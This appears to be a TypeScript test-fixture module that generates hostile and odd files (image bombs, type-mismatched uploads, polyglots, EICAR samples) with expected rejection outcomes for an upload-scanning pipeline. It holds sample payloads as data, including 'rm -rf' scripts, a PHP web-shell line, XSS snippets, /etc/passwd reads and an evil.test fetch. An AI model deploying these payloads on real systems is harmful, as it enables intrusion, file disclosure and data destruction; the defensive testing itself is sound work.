import { deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { EICAR, gifBomb, pngBomb, tiffBomb, webpBomb, zip } from './hostile-files.ts';
import { SMALLEST, sample } from './samples.ts';

/** A hostile or odd file, what it claims to be, and what must become of it. */
export interface Odd {
  readonly name: string;
  readonly contentType: string;
  readonly data: Buffer;
  /** `ready`, `quarantined`, or why it is rejected; several where decoders may differ. */
  readonly ends: readonly string[];
}

const text = (value: string): Buffer => Buffer.from(value);
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';
const HTML = '<!doctype html><script>alert(document.domain)</script>';

const IMAGES = ['image/jpeg', 'image/png', 'image/gif', 'image/webp', 'image/tiff', 'image/avif'] as const;

/** A small picture of each type that is taken. */
async function pictures(): Promise<Record<(typeof IMAGES)[number], Buffer>> {
  const base = sharp(sample('landscape_6.jpg')).resize(120);
  const [jpeg, png, gif, webp, tiff, avif] = await Promise.all([
    base.clone().jpeg().toBuffer(),
    base.clone().png().toBuffer(),
    base.clone().gif().toBuffer(),
    base.clone().webp().toBuffer(),
    base.clone().tiff({ compression: 'lzw' }).toBuffer(),
    base.clone().avif({ effort: 0 }).toBuffer(),
  ]);
  return {
    'image/jpeg': jpeg!,
    'image/png': png!,
    'image/gif': gif!,
    'image/webp': webp!,
    'image/tiff': tiff!,
    'image/avif': avif!,
  };
}

/** Pictures that say they are far larger than they are, or really decode to more than anybody wants. */
const bombs = (): Odd[] => [
  ...(
    [
      ['image/png', pngBomb],
      ['image/gif', gifBomb],
      ['image/tiff', tiffBomb],
    ] as const
  ).flatMap(([contentType, bomb]) =>
    [
      [8_000, 8_000],
      [20_000, 20_000],
      [60_000, 60_000],
      [65_000, 700],
    ].map(([width, height]) => ({
      name: `bomb ${contentType} ${width}×${height}`,
      contentType,
      data: bomb(width!, height!),
      ends: ['too_many_pixels', 'unreadable'],
    })),
  ),
  ...[8_000, 16_383].map((side) => ({
    name: `bomb image/webp ${side}`,
    contentType: 'image/webp',
    data: webpBomb(side, side),
    ends: ['too_many_pixels', 'unreadable'],
  })),
  {
    name: 'a PNG of no width',
    contentType: 'image/png',
    data: pngBomb(0, 10),
    ends: ['unreadable', 'type_unsupported'],
  },
  {
    name: 'a GIF of a thousand frames',
    contentType: 'image/gif',
    data: gifBomb(600, 600, 1_000),
    ends: ['unreadable', 'ready'],
  },
  {
    name: 'a zip of zeros',
    contentType: 'application/zip',
    data: zip({ 'zeros.bin': Buffer.alloc(70 * 1024 * 1024) }),
    ends: ['unscannable'],
  },
];

const lies = (real: Record<string, Buffer>): Odd[] => [
  ...IMAGES.flatMap((contentType) =>
    IMAGES.filter((other) => other !== contentType).map((other) => ({
      name: `${other} as ${contentType}`,
      contentType,
      data: real[other]!,
      ends: ['type_mismatch'],
    })),
  ),
  ...(
    [
      ['SVG', SVG],
      ['SVG behind a declaration', `<?xml version="1.0"?>\n<!-- hi -->\n${SVG}`],
      ['HTML', HTML],
      ['a script', '#!/bin/sh\nrm -rf /'],
      ['an HLS playlist', '#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n'],
      ['a concat list', "ffconcat version 1.0\nfile '/etc/passwd'\n"],
      ['an MVG', "push graphic-context\nimage over 0,0 0,0 'https://evil.test/x'\npop graphic-context"],
      ['PHP', '<?php system($_GET[0]);'],
    ] as const
  ).flatMap(([name, content]) =>
    IMAGES.slice(0, 4).map((contentType) => ({
      name: `${name} as ${contentType}`,
      contentType,
      data: text(content),
      ends: ['type_unsupported', 'type_mismatch'],
    })),
  ),
];

/** Files that are active under some name: never kept under another. */
const ACTIVE: readonly (readonly [name: string, data: Buffer])[] = [
  ['HTML', text(HTML)],
  ['HTML behind blanks', text(`\n\t  ${HTML}`)],
  ['HTML behind a byte order mark', text(`\ufeff${HTML}`)],
  ['HTML in UTF-16', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(HTML, 'utf16le')])],
  ['HTML behind a comment', text(`<!-- a letter -->${HTML}`)],
  ['HTML in capitals', text(HTML.toUpperCase())],
  ['a lone script', text('<script>alert(1)</script>')],
  ['a frame', text('<iframe src="javascript:alert(1)"></iframe>')],
  ['SVG', text(SVG)],
  ['SVG behind a declaration', text(`<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE svg [<!ENTITY a "b">]>${SVG}`)],
  ['SVG with a prefix', text('<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></s:svg>')],
  ['XHTML', text('<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>')],
  [
    'a stylesheet that runs',
    text('<?xml version="1.0"?><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>'),
  ],
  ['a web archive', text('MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n<html>')],
  ['a shell script', text('#!/bin/sh\nrm -rf ~')],
  ['PHP', text('<?php system($_GET[0]);')],
  ['a batch file', text('@echo off\r\nformat c:')],
  ['a link', text('[InternetShortcut]\r\nURL=file://evil.test/a.exe')],
  ['a desktop entry', text('[Desktop Entry]\nExec=rm -rf ~')],
  ['a Windows program', Buffer.concat([text('MZ'), Buffer.alloc(200)])],
  ['an ELF program', Buffer.concat([Buffer.from('7f454c46020101', 'hex'), Buffer.alloc(200)])],
  ['a Mach-O program', Buffer.concat([Buffer.from('cffaedfe0700000103', 'hex'), Buffer.alloc(200)])],
  ['a Java class', Buffer.concat([Buffer.from('cafebabe00000034', 'hex'), Buffer.alloc(200)])],
  ['WebAssembly', Buffer.from('0061736d01000000', 'hex')],
  ['Flash', sample('smallest/flash.swf')],
];

const disguised = (): Odd[] =>
  ACTIVE.flatMap(([name, data]) =>
    ['text/plain', 'application/pdf', 'application/octet-stream', 'application/zip'].map((contentType) => ({
      name: `${name} as ${contentType}`,
      contentType,
      data,
      ends: ['type_mismatch'],
    })),
  );

const PDF = sample('smallest/pdf.pdf');

const polyglots = (real: Record<string, Buffer>): Odd[] => [
  ...IMAGES.filter((type) => type !== 'image/avif').flatMap((contentType) =>
    (
      [
        ['a page', text(HTML)],
        ['an archive', zip({ 'a.html': text(HTML) })],
        ['a script', text('*/=1;alert(1)//')],
      ] as const
    ).map(([name, tail]) => ({
      name: `${contentType} with ${name} behind it`,
      contentType,
      data: Buffer.concat([real[contentType]!, tail]),
      ends: ['ready', 'unreadable'],
    })),
  ),
  {
    name: 'GIF that is a script',
    contentType: 'image/gif',
    data: text('GIF89a/*\0\0*/=0;alert(1)//'),
    ends: ['unreadable', 'too_many_pixels'],
  },
  {
    name: 'PDF with a page behind it',
    contentType: 'application/pdf',
    data: Buffer.concat([PDF, text(HTML)]),
    ends: ['ready'],
  },
  {
    name: 'PDF behind a page',
    contentType: 'application/pdf',
    data: Buffer.concat([text(HTML), PDF]),
    ends: ['type_mismatch'],
  },
  {
    name: 'PDF with an archive behind it',
    contentType: 'application/pdf',
    data: Buffer.concat([PDF, zip({ 'a.txt': text('a') })]),
    ends: ['ready'],
  },
  {
    name: 'a picture with malware in an archive behind it',
    contentType: 'image/jpeg',
    data: Buffer.concat([real['image/jpeg']!, zip({ 'a.com': EICAR })]),
    ends: ['quarantined'],
  },
];

const malware = (real: Record<string, Buffer>): Odd[] =>
  (
    [
      ['plain', EICAR],
      ['behind blanks', Buffer.concat([Buffer.alloc(5_000, ' '), EICAR])],
      ['stored', zip({ 'e.com': EICAR }, { store: true })],
      ['zipped', zip({ 'e.com': EICAR })],
      ['zipped twice', zip({ 'e.zip': zip({ 'e.com': EICAR }) })],
      ['in a document', zip({ '[Content_Types].xml': text('<Types/>'), 'word/e.bin': EICAR })],
      ['behind a picture', Buffer.concat([real['image/png']!, EICAR])],
      ['the other test file', text(`PARLEY-TEST-${'THREAT-LOOK-HERE'}`)],
    ] as const
  ).flatMap(([name, data]) =>
    ['image/png', 'application/zip', 'text/plain'].map((contentType) => ({
      name: `malware ${name} as ${contentType}`,
      contentType,
      data,
      ends: ['quarantined'],
    })),
  );

const truncated = (real: Record<string, Buffer>): Odd[] =>
  IMAGES.flatMap((contentType) =>
    [0.01, 0.1, 0.25, 0.5, 0.75, 0.9, 0.99].map((part) => ({
      name: `${contentType}, ${part * 100} % of it`,
      contentType,
      data: real[contentType]!.subarray(0, Math.max(1, real[contentType]!.length * part)),
      // Some decoders have all they need before the end.
      ends:
        part < 0.75
          ? ['unreadable', 'type_unsupported', 'codec_unsupported']
          : ['unreadable', 'ready', 'type_unsupported'],
    })),
  );

const harmless = (): Odd[] => {
  const docx = zip({
    '[Content_Types].xml': text(
      '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    ),
    'word/document.xml': text('<w:document/>'),
  });
  const ready = (name: string, contentType: string, data: Buffer): Odd => ({
    name,
    contentType,
    data,
    ends: ['ready'],
  });
  return [
    ready('text', 'text/plain', text('Grüße, 👩‍🚀\n')),
    ready('Markdown with a tag in it', 'text/markdown', text('# Hello\n\n<b>bold</b> <script>x</script>')),
    ready('source code', 'text/javascript', text('export const a = "<html>";')),
    ready('JSON', 'application/json', text('{"a":"<script>"}')),
    ready('CSV', 'text/csv', text('a,b\n=cmd|x,2')),
    ready('XML', 'application/xml', text('<?xml version="1.0"?><feed/>')),
    ready('a playlist', 'application/vnd.apple.mpegurl', text('#EXTM3U\nhttps://a.test/1.ts')),
    ready('PDF', 'application/pdf', PDF),
    ready('a document', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', docx),
    ready('a document as an archive', 'application/zip', docx),
    ready('an archive', 'application/zip', zip({ 'a.txt': text('a') })),
    ready('gzip', 'application/gzip', gzipSync('a')),
    ready('nobody knows', 'application/octet-stream', deflateSync('a').reverse()),
    ready('of a type nobody knows', 'application/x-chess', text('1. e4 e5')),
    ready('one byte', 'application/octet-stream', Buffer.from([7])),
    { name: 'text as PDF', contentType: 'application/pdf', data: text('hello'), ends: ['type_mismatch'] },
    { name: 'an archive as PDF', contentType: 'application/pdf', data: zip({ a: text('a') }), ends: ['type_mismatch'] },
    {
      name: 'binary as text',
      contentType: 'text/plain',
      data: Buffer.from([0, 1, 2, 3, 255]),
      ends: ['type_mismatch'],
    },
    { name: 'a photo as PDF', contentType: 'application/pdf', data: sample('image01551.jpg'), ends: ['type_mismatch'] },
    {
      name: 'a photo as an unknown type',
      contentType: 'application/octet-stream',
      data: sample('DSCN0010.jpg'),
      ends: ['ready'],
    },
  ];
};

const real = (): Odd[] => [
  ...[
    'Canon_40D.jpg',
    'DSCN0010.jpg',
    'DSCN0021.jpg',
    'image01551.jpg',
    'image01713.jpg',
    'landscape_6.jpg',
    'portrait_8.jpg',
  ].map((name) => ({ name, contentType: 'image/jpeg', data: sample(name), ends: ['ready'] })),
  { name: 'Jobagent.tiff', contentType: 'image/tiff', data: sample('Jobagent.tiff'), ends: ['ready'] },
  {
    name: 'samplefilehub.heif',
    contentType: 'image/heic',
    data: sample('samplefilehub.heif'),
    ends: ['codec_unsupported'],
  },
  ...SMALLEST.map((name) => ({
    name: `${name} as a picture`,
    contentType: 'image/png',
    data: sample(name),
    ends: ['type_unsupported', 'type_mismatch'],
  })),
];

/** All of them. Made anew by each call; none is stored anywhere. */
export async function everyOddFile(): Promise<Odd[]> {
  const small = await pictures();
  return [
    ...bombs(),
    ...lies(small),
    ...disguised(),
    ...polyglots(small),
    ...malware(small),
    ...truncated(small),
    ...harmless(),
    ...real(),
  ];
}
